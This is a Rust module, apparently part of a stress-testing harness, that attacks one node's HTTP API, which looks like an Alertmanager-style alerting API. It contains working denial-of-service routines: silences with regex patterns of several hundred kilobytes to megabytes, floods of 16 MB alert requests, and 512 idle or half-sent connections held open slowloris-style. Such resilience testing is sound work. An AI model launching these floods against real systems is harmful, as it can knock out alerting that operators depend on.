//! Attacks on the HTTP API of one node.

use std::io::{Read as _, Write as _};
use std::net::{SocketAddr, TcpStream};
use std::thread::{sleep, spawn};
use std::time::{Duration, Instant};

use crate::figures::{Figure, show};
use crate::http;
use crate::target::{Outcome, Target};

/// One silence with a pattern of 400 kB.
pub(crate) async fn pattern(target: &Target) -> Outcome {
    post_patterns(target, 1, 400_000).await
}

/// Four silences with patterns of 1.3 MB, at once.
pub(crate) async fn patterns(target: &Target) -> Outcome {
    post_patterns(target, 4, 1_300_000).await
}

async fn post_patterns(target: &Target, count: usize, bytes: usize) -> Outcome {
    let web = target.nodes[0].web;
    let posts = (0..count).map(|_| {
        spawn(move || {
            let body = http::silence("a", &r"\pL".repeat(bytes / 3), true, "patterns");
            let started = Instant::now();
            let answer = http::post(web, "/api/v2/silences", &body, Duration::from_secs(60));
            let said = match answer {
                Ok((status, body)) => {
                    let body: String = body.trim().chars().take(24).collect();
                    format!("{status} {body}")
                }
                Err(error) => error.to_string().chars().take(24).collect(),
            };
            (said, started.elapsed())
        })
    });
    let posts: Vec<_> = posts.collect();
    target.rest().await;
    let mut told = Vec::new();
    for post in posts {
        let (said, took) = post.join().unwrap_or_default();
        let value = format!("{said} after {}", show(took));
        told.push(Figure::told("the answer", value));
    }
    Ok(told)
}

/// Alerts with labels and annotations of 64 kB, in requests of 16 MB, until they are refused.
pub(crate) async fn alerts(target: &Target) -> Outcome {
    let web = target.nodes[0].web;
    let over = target.clone();
    let posted = spawn(move || {
        let text = "x".repeat(64_000);
        let mut statuses = std::collections::BTreeMap::<u16, u64>::new();
        for request in 0..100 {
            let alert = |n: u32| {
                format!(
                    r#"{{"labels":{{"alertname":"a{request}-{n}","long":"{text}"}},"annotations":{{"long":"{text}"}}}}"#
                )
            };
            let alerts: Vec<String> = (0..125).map(alert).collect();
            if over.is_over() {
                break;
            }
            let body = format!("[{}]", alerts.join(","));
            let answer = http::post(web, "/api/v2/alerts", &body, Duration::from_secs(30));
            *statuses.entry(answer.map_or(0, |it| it.0)).or_default() += 1;
        }
        format!("{statuses:?}")
    });
    target.rest().await;
    let statuses = posted.join().unwrap_or_default();
    Ok(vec![Figure::told(
        "answers by status, 0 for none",
        statuses,
    )])
}

/// 512 connections on which nothing, or not all of a request, is said; one that is closed is opened
/// again.
pub(crate) async fn idle(target: &Target) -> Outcome {
    let web = target.nodes[0].web;
    let over = target.clone();
    let held = spawn(move || hold(web, 512, &over));
    target.rest().await;
    let reopened = held.join().unwrap_or_default();
    Ok(vec![Figure::told(
        "connections opened again",
        reopened.to_string(),
    )])
}

fn hold(web: SocketAddr, count: usize, target: &Target) -> u64 {
    let mut held: Vec<Option<TcpStream>> = (0..count).map(|_| None).collect();
    let mut opened = 0;
    while !target.is_over() {
        for (number, place) in held.iter_mut().enumerate() {
            if place.as_mut().is_some_and(is_closed) {
                *place = None;
            }
            if place.is_none() {
                *place = idle_connection(web, number);
                opened += u64::from(place.is_some());
            }
        }
        sleep(Duration::from_millis(50));
    }
    opened - opened.min(count as u64)
}

fn idle_connection(web: SocketAddr, number: usize) -> Option<TcpStream> {
    let mut stream = TcpStream::connect_timeout(&web, Duration::from_millis(200)).ok()?;
    stream.set_nonblocking(true).ok()?;
    if number % 2 == 1 {
        stream.write_all(b"GET /-/healthy HTTP/1.1\r\nhost:").ok()?;
    }
    Some(stream)
}

/// Whether the other side has ended a connection.
pub(crate) fn is_closed(stream: &mut TcpStream) -> bool {
    let mut byte = [0; 512];
    match stream.read(&mut byte) {
        Ok(0) => true,
        Ok(_) => false,
        Err(error) => error.kind() != std::io::ErrorKind::WouldBlock,
    }
}
